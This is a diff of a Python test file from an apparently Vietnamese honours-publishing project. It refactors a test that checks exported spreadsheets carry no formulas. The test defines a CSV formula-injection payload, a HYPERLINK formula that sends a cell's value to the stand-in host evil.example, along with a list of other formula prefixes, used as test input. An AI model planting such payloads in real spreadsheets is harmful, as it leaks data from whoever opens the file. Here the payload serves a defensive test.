@@ -17,7 +17,6 @@ import pytest
 from bangvang.core.honours import export, reader
 from bangvang.core.honours.model import Decision, HonourEntry, Issuer
 from conftest import Site
-from test_manifest import build_in_process
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")'
 FORMULA_STARTS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1+1"]
@@ -61,25 +60,9 @@ def test_json_exports_stay_exact(tmp_path: Path) -> None:
     assert document["number"] == "-1/QĐ"
 
 
-DECISION = """\
-number: "5/QĐ-UBND"
-signed: 2023-12-18
-issuer: {name: '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")', level: huyen_xa}
-form: cong_nhan
-period: "2023"
-title: '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")'
-entries_csv: a.csv
-"""
-
-
-def test_published_spreadsheets_hold_no_formula(
-    site: Site, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
-) -> None:
-    folder = site.root / "honours"
-    folder.mkdir()
-    (folder / "a.yaml").write_text(DECISION, encoding="utf-8")
-    rows = "1,gia_dinh,Gia đình ông An,,,Thôn 1,Xã Thiên Lộc,Huyện Can Lộc,Tỉnh Hà Tĩnh\n"
-    (folder / "a.csv").write_text("stt,kind,name,person,title,village,commune,district,province\n" + rows, "utf-8")
+def test_published_spreadsheets_hold_no_formula(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
+    row = "1,gia_dinh,Gia đình ông An,,,Thôn 1,Xã Thiên Lộc,Huyện Can Lộc,Tỉnh Hà Tĩnh"
+    site.decision("a", [row], number="5/QĐ-UBND", title=HYPERLINK, issuer={"name": HYPERLINK, "level": "huyen_xa"})
     # The check is the first line of defence: it refuses the formula outright.
     check = site.check("--strict")
     assert check.code == 1 and "công thức" in check.output, check.output
@@ -90,7 +73,8 @@ def test_published_spreadsheets_hold_no_formula(
         "text_findings",
         lambda *args, **kwargs: [f for f in findings(*args, **kwargs) if "công thức" not in f[1]],
     )
-    assert build_in_process(site, monkeypatch, caplog) == ""
+    run = site.build()
+    assert run.code == 0, run.output
     data = site.out / "vinh-danh/du-lieu"
     for path in (data / "a.csv", data / "tinh/tinh-ha-tinh.csv"):
         (record,) = _records(path)
